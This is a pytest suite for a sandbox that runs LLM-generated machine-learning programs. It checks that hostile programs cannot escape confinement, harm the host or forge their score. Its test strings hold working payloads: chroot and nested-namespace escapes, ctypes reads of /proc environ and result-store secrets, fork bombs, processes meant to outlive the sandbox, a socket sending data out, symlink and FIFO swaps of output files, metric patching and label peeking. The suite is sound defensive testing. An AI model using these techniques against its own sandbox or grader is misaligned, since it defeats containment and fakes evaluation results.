"""Programs written to escape the sandbox, forge their score or harm the host.

Every check looks at the outside world (a sentinel file outside the work directory, a listener
on 127.0.0.1, the processes alive on the host, secrets of the parent process and of the results
store, the score the harness computes), never at what the hostile program says about itself.
"""

from __future__ import annotations

import os
import socket
import sqlite3
import tempfile
import textwrap
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from bench.llm import sandbox
from bench.llm.confinement import no_nested_userns
from bench.llm.sandbox import SandboxLimits, SandboxResult, run_program

# Skipped where bubblewrap cannot confine, except in CI, which installs it: there a missing
# confinement fails (test_ci_confines) instead of passing the suite silently.
pytestmark = pytest.mark.skipif(
    not sandbox.confinement_available() and not os.environ.get("CI"),
    reason="bubblewrap cannot confine here (install the Debian package bubblewrap)",
)


def test_ci_confines() -> None:
    assert sandbox.confinement_available(), "bwrap is missing or cannot create namespaces"


LIMITS = SandboxLimits(wall_s=60, cpu_s=60, memory_mb=2048, threads=1)
HONEST = """
from sklearn.linear_model import LogisticRegression

def build_model():
    return LogisticRegression()
"""
# libc by its path under /usr/lib, which the audit hook allows: the attacks below go around the
# hook, so what they test is the confinement itself.
LIBC = (
    "import ctypes, glob\n"
    "_libc = glob.glob('/usr/lib/*/libc.so.6') or ['/usr/lib64/libc.so.6']\n"
    "libc = ctypes.CDLL(_libc[0], use_errno=True)\n"
)


def data(seed: int = 0, signal: bool = True) -> tuple[pd.DataFrame, pd.Series, pd.DataFrame]:
    rng = np.random.default_rng(seed)
    X = pd.DataFrame({"a": rng.normal(size=80), "b": rng.normal(size=80)})
    labels = X["a"] > 0 if signal else rng.random(80) > 0.5
    y = pd.Series(np.where(labels, "yes", "no"))
    return X, y, X.head(8)


def hostile(attack: str, model: str = HONEST) -> str:
    """A program whose top level (with `libc` loaded) runs `attack`, then defines an honest
    model."""
    return LIBC + textwrap.dedent(attack) + "\n" + model


def run(source: str, predict: bool = True, **options) -> SandboxResult:
    X, y, X_test = data()
    limits = options.pop("limits", LIMITS)
    return run_program(source, X, y, X_test if predict else None, limits=limits, **options)


def alive_with(marker: str) -> list[int]:
    """Host processes whose command line holds `marker`."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            if marker.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


@pytest.fixture
def sentinel(tmp_path: Path) -> Path:
    return tmp_path / "escaped.txt"  # outside every sandbox work directory


# -- the file system ----------------------------------------------------------------------
@pytest.mark.parametrize("how", ["os", "ctypes"])
def test_a_double_chroot_does_not_reach_the_host(how: str, sentinel: Path) -> None:
    chroot = "os.chroot" if how == "os" else "(lambda p: _check(libc.chroot(p.encode())))"
    attack = f"""
        import os
        def _check(code):
            if code != 0:
                raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        os.makedirs("jail", exist_ok=True)
        {chroot}("jail")
        for _ in range(64):
            os.chdir("..")
        {chroot}(".")
        with open({str(sentinel)!r}, "w") as handle:
            handle.write("out")
    """
    result = run(hostile(attack))
    assert not sentinel.exists()
    assert not result.ok and ("not permitted" in result.error or "sandbox" in result.error)


def test_mount_umount_and_pivot_root_are_refused(sentinel: Path, tmp_path: Path) -> None:
    attack = f"""
        import os
        results = [
            libc.mount(b"none", b"/usr", b"tmpfs", 0, None),
            libc.umount2(b"/usr", 2),
            libc.syscall(155, b"/tmp", b"/tmp"),  # pivot_root
            libc.mount(b"/", b"/tmp", None, 4096, None),  # a bind mount of the root
        ]
        open({str(sentinel)!r}, "w").write(str(results))
    """
    result = run(hostile(attack))
    assert not sentinel.exists()  # the host path is not in the sandbox's world at all
    assert not result.ok
    assert Path("/usr/bin/env").exists()  # the host's /usr is untouched


@pytest.mark.parametrize("what", ["results", "cache", "predictions", "parent environment"])
def test_secrets_outside_the_work_directory_do_not_come_out(
    what: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = f"SECRET-{what.replace(' ', '-')}-{os.getpid()}"
    store = tmp_path / "results"
    (store / "runs").mkdir(parents=True)
    (store / "runs" / "other.json").write_text(f'{{"status": "ok", "note": "{secret}"}}')
    with sqlite3.connect(store / "llm_cache.sqlite") as db:
        db.execute("CREATE TABLE responses (key TEXT, value TEXT)")
        db.execute("INSERT INTO responses VALUES ('k', ?)", (secret,))
    pd.DataFrame({"y_true": [secret]}).to_parquet(store / "other.parquet")
    monkeypatch.setenv("BENCH_HOSTILE_SECRET", secret)  # the harness's environment
    targets = [
        str(store / "runs" / "other.json"),
        str(store / "llm_cache.sqlite"),
        str(store / "other.parquet"),
        f"/proc/{os.getpid()}/environ",
        "/proc/1/environ",
    ]
    attack = f"""
        import os
        found = []
        for path in {targets!r} + ["/proc/%d/environ" % p for p in range(1, 200)]:
            fd = libc.open(path.encode(), 0)  # libc, around the audit hook
            if fd >= 0:
                buffer = ctypes.create_string_buffer(1 << 16)
                n = libc.read(fd, buffer, 1 << 16)
                found.append(buffer.raw[:max(n, 0)])
        print(b"|".join(found))
        raise RuntimeError(b"|".join(found)[:3000])
    """
    result = run(hostile(attack))
    seen = f"{result.stdout_tail} {result.stderr_tail} {result.error}"
    assert secret not in seen
    assert not result.ok


# -- processes ----------------------------------------------------------------------------
@pytest.mark.parametrize("how", ["ctypes fork", "_posixsubprocess", "os.fork"])
def test_processes_started_around_the_hook_do_not_outlive_the_sandbox(how: str) -> None:
    marker = f"1000.{os.getpid()}{len(how)}7"
    start = {
        "ctypes fork": "pid = libc.fork()",
        "os.fork": "pid = os.fork()",
        "_posixsubprocess": "pid = None",
    }[how]
    attack = f"""
        import os
        {start}
        if pid == 0:
            os.execv("/usr/bin/sleep", ["sleep", "{marker}"])
        if pid is None:
            import _posixsubprocess
            args = (["/usr/bin/sleep", "{marker}"], [b"/usr/bin/sleep"], True, (), None, None,
                    -1, -1, -1, -1, -1, -1, *os.pipe(), False, False, -1, None, None, None, -1,
                    None, False)
            _posixsubprocess.fork_exec(*args)
    """
    result = run(hostile(attack))
    time.sleep(0.5)
    assert alive_with(marker) == [], f"{how}: a sandboxed process survived the run"
    assert result.seconds < LIMITS.wall_s


def test_a_fork_bomb_is_contained() -> None:
    attack = """
        import os, time
        for _ in range(5000):
            if libc.fork() < 0:
                break
        time.sleep(1)
    """
    before = sum(1 for p in Path("/proc").iterdir() if p.name.isdigit())
    started = time.monotonic()
    result = run(hostile(attack), limits=SandboxLimits(wall_s=20, cpu_s=20, max_processes=32))
    assert time.monotonic() - started < 40
    time.sleep(1)
    after = sum(1 for p in Path("/proc").iterdir() if p.name.isdigit())
    assert after - before < 10, f"{after - before} processes left behind"
    assert result.seconds < 40


def test_a_child_sleeping_past_the_wall_clock_limit_is_killed() -> None:
    marker = f"2000.{os.getpid()}3"
    attack = f"""
        import os, time
        if libc.fork() == 0:
            os.execv("/usr/bin/sleep", ["sleep", "{marker}"])
        time.sleep(600)
    """
    result = run(hostile(attack), limits=SandboxLimits(wall_s=3, cpu_s=30))
    assert "timed out after 3 s" in result.error
    time.sleep(0.5)
    assert alive_with(marker) == []


# -- the network --------------------------------------------------------------------------
@pytest.fixture
def listener() -> Iterator[socket.socket]:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.setblocking(False)
    yield server
    server.close()


def test_a_raw_socket_through_ctypes_reaches_no_loopback_listener(
    listener: socket.socket,
) -> None:
    port = listener.getsockname()[1]
    attack = f"""
        import socket, struct
        fd = libc.socket(2, 1, 0)
        address = struct.pack("!HH4s8x", 2, {port}, bytes([127, 0, 0, 1]))
        address = struct.pack("H", 2) + address[2:]
        code = libc.connect(fd, address, len(address))
        libc.send(fd, b"stolen rows", 11, 0)
        raise RuntimeError(f"connect returned {{code}}, errno {{ctypes.get_errno()}}")
    """
    result = run(hostile(attack))
    with pytest.raises(BlockingIOError):  # nobody connected
        listener.accept()
    assert not result.ok


# -- the score ----------------------------------------------------------------------------
def honest_score(signal: bool = True) -> float:
    X, y, _ = data(signal=signal)
    result = run_program(HONEST, X, y, limits=LIMITS)
    assert result.ok, result.error
    return result.cv_score


@pytest.mark.parametrize(
    "forgery",
    [
        # patch the metric functions the old sandbox scored with
        "import sklearn.metrics\nsklearn.metrics.roc_auc_score = lambda *a, **k: 1.0\n"
        "sklearn.metrics.accuracy_score = lambda *a, **k: 1.0\n",
        # write result files claiming a perfect score, now and at exit
        "import atexit, json\n"
        "json.dump({'cv_score': 1.0, 'fold_scores': [1.0] * 5, 'classes': ['no', 'yes']},"
        " open('result.json', 'w'))\n"
        "atexit.register(lambda: json.dump({'cv_score': 1.0, 'fold_scores': [1.0] * 5,"
        " 'classes': ['no', 'yes']}, open('result.json', 'w')))\n",
    ],
    ids=["patched metrics", "result files and atexit"],
)
def test_a_program_cannot_change_its_own_score(forgery: str) -> None:
    X, y, _ = data(signal=False)  # labels without signal: an honest model scores about 0.5
    result = run_program(hostile(forgery), X, y, limits=LIMITS)
    assert result.ok, result.error
    assert result.cv_score == pytest.approx(honest_score(signal=False))
    assert result.cv_score < 0.8


def test_a_program_finds_no_validation_labels_to_peek_at() -> None:
    cheat = """
        import glob, os
        import numpy as np
        import pandas as pd

        class Peek:
            def fit(self, X, y):
                self.classes_ = np.array(sorted(set(y)))
                self.known = {}
                paths = []
                for pattern in ("**/*", "/tmp/**/*", "/**/*.parquet"):
                    try:
                        paths += glob.glob(pattern, recursive=True)
                    except Exception:  # the audit hook refuses listing outside
                        pass
                for path in paths:
                    try:
                        frame = pd.read_parquet(path)
                    except Exception:
                        continue
                    if "__target__" in frame.columns:
                        for key, label in zip(frame["a"], frame["__target__"]):
                            self.known[round(float(key), 9)] = label
                return self

            def predict_proba(self, X):
                labels = [self.known.get(round(float(a), 9), "no") for a in X["a"]]
                return np.array([[float(l == c) for c in self.classes_] for l in labels])

        def build_model():
            return Peek()
    """
    X, y, _ = data(signal=False)
    result = run_program(textwrap.dedent(cheat), X, y, limits=LIMITS)
    assert result.ok, result.error
    assert result.cv_score < 0.75  # it found only its own fold's labels, never the scored ones


# -- resources ----------------------------------------------------------------------------
def test_a_memory_hog_is_stopped() -> None:
    result = run(hostile("blob = bytearray(8 * 1024**3)\n"))
    assert not result.ok and "memory" in result.error.lower()


def test_megabytes_of_output_are_cut_to_a_tail() -> None:
    result = run(hostile("import sys\nfor _ in range(40000):\n    print('x' * 1000)\n"))
    assert len(result.stdout_tail) <= sandbox.TAIL_CHARS
    assert not result.ok and "sandbox.output_mb" in result.error


def test_filling_the_disk_stops_at_the_output_limit_and_reaches_no_host_disk(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """40 files of 1 MB each, every one under the per-file limit: the scratch tmpfs (its size
    is sandbox.output_mb) stops them, and the host directory the sandbox lives in never grows."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    attack = """
        import time
        for i in range(40):
            with open(f"fill{i}", "wb") as handle:
                handle.write(b"x" * 1_000_000)
    """
    largest, done = [0], threading.Event()

    def watch() -> None:  # the host's view: bytes under the sandbox's temporary directory
        while not done.is_set():
            total = sum(p.stat().st_size for p in tmp_path.rglob("*") if _is_file(p))
            largest[0] = max(largest[0], total)
            time.sleep(0.05)

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        result = run(hostile(attack), limits=SandboxLimits(wall_s=60, cpu_s=60, output_mb=4))
    finally:
        done.set()
        watcher.join()
    assert not result.ok and "sandbox.output_mb" in result.error, result.error
    assert largest[0] < 2_000_000, f"{largest[0]} bytes reached the host's disk"


def _is_file(path: Path) -> bool:
    try:
        return path.is_file()
    except OSError:  # vanished meanwhile
        return False


@pytest.mark.parametrize("name", ["stdout.txt", "stderr.txt", "result.json", "../stdout.txt"])
def test_output_files_swapped_for_links_to_host_files_are_not_read(
    name: str, tmp_path: Path
) -> None:
    """The harness reads what the program printed and sent through handles it opened itself:
    a symlink at any of the old output paths, to a host file, brings nothing of it back."""
    secret = f"SECRET-LINKED-{os.getpid()}"
    target = tmp_path / "secret.txt"
    target.write_text(secret)
    attack = f"""
        import os
        for path in ({name!r}, "/proc/self/environ"):
            libc.unlink(path.encode())
        libc.symlink({str(target)!r}.encode(), {name!r}.encode())
        libc.symlink(b"/proc/self/environ", b"stderr.txt")
        os._exit(3)  # no result: the harness quotes the tail of stderr in the error
    """
    result = run(hostile(attack))
    seen = f"{result.stdout_tail} {result.stderr_tail} {result.error} {result.summary()}"
    assert secret not in seen
    assert "PATH=" not in seen  # nor the harness's own environment (/proc/self/environ)
    assert not result.ok and "exited with code 3" in result.error


def test_a_fifo_in_place_of_a_result_file_does_not_hang_the_harness() -> None:
    attack = """
        import atexit
        def swap():
            for name in (b"result.json", b"proba.npy", b"error.json", b"stdout.txt"):
                libc.unlink(name)
                libc.mkfifo(name, 0o644)
        atexit.register(swap)
    """
    finished: list[SandboxResult] = []
    worker = threading.Thread(target=lambda: finished.append(run(hostile(attack))), daemon=True)
    worker.start()
    worker.join(timeout=LIMITS.wall_s + 30)
    assert finished, "the harness hung on a FIFO the program left"
    assert finished[0].ok, finished[0].error  # the probabilities came through the handle


def test_a_nested_user_namespace_is_refused(sentinel: Path) -> None:
    """A user namespace inside the sandbox would hand the program every capability again
    there; bwrap --disable-userns refuses it (bubblewrap >= 0.8)."""
    if not no_nested_userns():
        pytest.skip("this bubblewrap cannot disable nested user namespaces (needs >= 0.8)")
    attack = f"""
        import os
        pid = libc.fork()  # a single-threaded process: unshare(CLONE_NEWUSER) needs one
        if pid == 0:
            code = 0
            if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
                code = ctypes.get_errno()
            elif libc.chroot(b".") == 0:
                for _ in range(64):
                    os.chdir("..")
                libc.chroot(b".")
                with open({str(sentinel)!r}, "w") as handle:
                    handle.write("out")
            os._exit(code)
        errno = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
        raise RuntimeError(f"nested unshare failed with errno {{errno}}")
    """
    result = run(hostile(attack))
    assert not sentinel.exists()
    assert not result.ok and "nested unshare failed with errno 28" in result.error, result.error


def test_an_infinite_loop_is_stopped_at_the_cpu_limit() -> None:
    result = run(hostile("while True:\n    pass\n"), limits=SandboxLimits(wall_s=30, cpu_s=2))
    assert not result.ok and "sandbox.cpu_s" in result.error, result.error
    assert result.seconds < 30
